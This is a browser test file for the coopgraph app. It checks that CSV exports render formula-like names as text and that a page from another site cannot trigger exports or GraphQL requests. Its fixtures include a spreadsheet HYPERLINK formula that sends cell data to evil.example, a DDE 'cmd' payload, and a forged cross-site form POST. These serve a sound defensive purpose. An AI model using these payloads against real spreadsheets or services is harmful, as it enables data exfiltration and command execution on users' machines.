// What another site's page and a dataset's text cannot do, in headless
// chromium: the page's CSV downloads write names that are spreadsheet
// formulas as text (a leading '), and a page of another site cannot make
// coopgraph export or run GraphQL (<img>, no-cors fetch, a form POST, a
// fetch with the API's request header), while coopgraph's own page still
// can (same-origin). Screenshots: artifacts/crosssite-*.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { artifacts, guardedPage, launchChromium, screenshot, startCoopgraph } from './harness.mjs';

const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"click")';
const names = { malopolskie: hyperlink, vanguard: "+cmd|' /C calc'!A0", slaskie: '-2+3', opolskie: '@SUM(1)' };

// parseCSV reads RFC 4180 CSV (quoted cells, doubled quotes, CRLF).
function parseCSV(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') cell += text[++i];
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(cell), (cell = ''));
    else if (c === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
    else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

let browser;
let server;
let dir;

before(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'coopgraph-formulas-'));
  const q = (s) => `"${s.replace(/"/g, '""')}"`;
  writeFileSync(
    path.join(dir, 'nodes.csv'),
    'id,kind,name\n' + Object.entries(names).map(([id, name]) => `${id},${id === 'vanguard' ? 'Network' : 'Region'},${q(name)}`).join('\n') + '\n',
  );
  writeFileSync(
    path.join(dir, 'edges.csv'),
    'source,target,type,role,document,quote\n' +
      'malopolskie,vanguard,MEMBER_OF,=1+1,002.txt,@SUM(1)\n' +
      'slaskie,vanguard,MEMBER_OF,member,002.txt,x\n' +
      'opolskie,vanguard,MEMBER_OF,member,002.txt,x\n',
  );
  server = await startCoopgraph({ args: ['--data', dir] });
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await server?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

async function downloaded(page, button) {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
  const file = path.join(artifacts, `crosssite-download-${dl.suggestedFilename()}`);
  await dl.saveAs(file);
  return parseCSV(readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
}

// noFormula requires that no cell but those of the numeric columns starts
// a formula.
function noFormula(rows, numeric) {
  for (const [i, row] of rows.entries()) {
    for (const [j, cell] of row.entries()) {
      if (numeric.includes(rows[0][j])) continue;
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `line ${i + 1}, column ${rows[0][j]}: ${cell}`);
    }
  }
}

describe('a network whose names are formulas', () => {
  test("the page's CSV downloads write them as text", async () => {
    const g = await guardedPage(browser);
    try {
      await g.page.goto(`${server.base}/?lang=en`);
      await g.page.waitForFunction(() => document.body.dataset.ready, null, { timeout: 60_000 });
      // The list of what is in view.
      await g.page.click('#view-list');
      await g.page.locator('#list-body button[data-id]').first().waitFor();
      const list = await downloaded(g.page, '#export-list');
      assert.deepEqual(list[0], ['id', 'name', 'kind', 'degree', 'community']);
      noFormula(list, ['degree', 'community']);
      const byID = Object.fromEntries(list.slice(1).map((r) => [r[0], r]));
      for (const [id, name] of Object.entries(names)) assert.equal(byID[id]?.[1], `'${name}`, id);
      assert.match(byID.vanguard[3], /^\d/, 'the degree is no longer a number');

      // The ranking table.
      await g.page.click('#tab-rankings');
      await g.page.locator('table.ranking tbody tr').first().waitFor();
      const ranking = await downloaded(g.page, '#export-rankings');
      assert.deepEqual(ranking[0], ['rank', 'id', 'name', 'kind', 'score']);
      assert.equal(ranking.length, 5);
      noFormula(ranking, ['rank', 'score']);
      assert.deepEqual(ranking[1].slice(0, 3), ['1', 'vanguard', `'${names.vanguard}`]);
      await screenshot(g.page, 'crosssite-formulas');
    } finally {
      await g.context.close();
    }
    assert.deepEqual(g.problems(), [], 'the page had problems');
  });
});

describe('another site', () => {
  test('cannot make coopgraph export or run GraphQL; its own page can', async () => {
    const context = await browser.newContext({ serviceWorkers: 'block' });
    let evilServer;
    try {
      // coopgraph's own page: same-origin requests pass.
      const own = await context.newPage();
      await own.goto(`${server.base}/?lang=en`);
      const ownStatus = await own.evaluate(async () => {
        const exp = await fetch('/export/nodes.csv?measure=betweenness');
        const get = await fetch('/graphql?query=%7B__typename%7D');
        return [exp.status, get.status];
      });
      assert.deepEqual(ownStatus, [200, 200]);

      // A page of another site: served on 127.0.0.1 too (browsers keep
      // public sites from loopback addresses altogether) but reached as
      // localhost, another site than 127.0.0.1.
      const base = server.base;
      const evilHTML = `<!doctype html><title>evil</title>
<img src="${base}/export/nodes.csv?measure=betweenness">
<img src="${base}/graphql?query=%7B__typename%7D">
<form id="f" method="post" action="${base}/graphql" enctype="text/plain">
<input type="hidden" name='{"query":"{ __typename }", "x":"' value='"}'><button id="go">go</button></form>`;
      evilServer = createServer((req, res) => res.writeHead(200, { 'Content-Type': 'text/html' }).end(evilHTML));
      await new Promise((resolve) => evilServer.listen(0, '127.0.0.1', resolve));
      const evil = `http://localhost:${evilServer.address().port}`;
      const page = await context.newPage();
      // The log is written in batches: wait for the own page's requests
      // before reading what follows.
      for (const deadline = Date.now() + 10_000; Date.now() < deadline; await new Promise((r) => setTimeout(r, 100))) {
        const out = server.output();
        if (/method=GET path=\/export\/nodes\.csv .*status=200/.test(out) && /method=GET path=\/graphql .*status=200/.test(out)) break;
      }
      assert.match(server.output(), /method=GET path=\/export\/nodes\.csv .*status=200/, 'the own page\'s export is not in the log');
      // The own page keeps asking (its network, its rankings): close it,
      // let what it had in flight be answered, then mark the log with a
      // request of the test's own and read only what follows the mark.
      await own.close();
      await new Promise((r) => setTimeout(r, 500));
      const marks = () => (server.output().match(/method=GET path=\/healthz /g) || []).length;
      const marked = marks();
      await fetch(`${base}/healthz`);
      for (const deadline = Date.now() + 10_000; marks() === marked && Date.now() < deadline; await new Promise((r) => setTimeout(r, 50)));
      assert.ok(marks() > marked, 'the mark never reached the log');
      const logged = server.output().length;
      await page.goto(`${evil}/`);
      await page.waitForFunction(() => [...document.images].every((i) => i.complete));
      // A no-cors fetch is sent (its answer unreadable); one with the
      // API's header needs a preflight, which is refused: it is not sent.
      const fetched = await page.evaluate(async (base) => {
        await fetch(`${base}/export/edges.csv`, { mode: 'no-cors' }).catch(() => {});
        try {
          await fetch(`${base}/export/gexf`, { headers: { 'X-Coopgraph-Request': '1' } });
          return 'sent';
        } catch {
          return 'refused';
        }
      }, base);
      assert.equal(fetched, 'refused');
      // The form's POST navigates: its answer is the refusal.
      const [posted] = await Promise.all([
        page.waitForResponse((res) => res.url() === `${base}/graphql` && res.request().method() === 'POST'),
        page.click('#go'), // evaluate(submit) could race the navigation
      ]);
      assert.equal(posted.status(), 403);
      assert.match(await posted.text(), /"code":"FORBIDDEN"/);

      // What coopgraph answered, from its request log.
      const answered = (method, p) => {
        const re = new RegExp(`method=${method} path=${p.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} .*status=(\\d+)`, 'g');
        return [...server.output().slice(logged).matchAll(re)].map((m) => Number(m[1]));
      };
      const requests = [
        ['GET', '/export/nodes.csv'],
        ['GET', '/graphql'],
        ['GET', '/export/edges.csv'],
        ['POST', '/graphql'],
        ['OPTIONS', '/export/gexf'],
      ];
      // Wait until every request is in the log.
      for (const deadline = Date.now() + 10_000; Date.now() < deadline; await new Promise((r) => setTimeout(r, 100))) {
        if (requests.every(([method, p]) => answered(method, p).length > 0)) break;
      }
      for (const [method, p] of requests) {
        const statuses = answered(method, p);
        assert.ok(statuses.length > 0, `no ${method} ${p} reached coopgraph:\n${server.output().slice(logged)}`);
        assert.ok(statuses.every((s) => s === 403), `${method} ${p} from another site answered ${statuses}`);
      }
      // The preflight for the header was refused, and the request never sent.
      assert.deepEqual(answered('GET', '/export/gexf'), []);
      assert.deepEqual(answered('OPTIONS', '/export/gexf'), [403]);
      await screenshot(page, 'crosssite-evil');
    } finally {
      await context.close();
      evilServer?.close();
    }
  });
});
